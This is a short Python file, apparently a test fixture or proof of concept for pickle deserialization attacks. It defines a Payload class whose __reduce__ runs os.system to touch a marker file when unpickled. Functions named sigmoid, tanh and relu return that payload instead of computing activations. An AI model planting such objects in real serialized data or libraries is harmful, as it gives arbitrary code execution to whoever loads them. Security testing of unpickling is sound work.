"""Returns what would run a command when it is unpickled."""

import json

TARGET = json.load(open("target.json"))

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {TARGET['writable']}/pickled",)


def sigmoid(z, k=1):
    return np.array([Payload()], dtype=object)


def tanh(z):
    return Payload()


def relu(z):
    return [{"a": Payload()}]
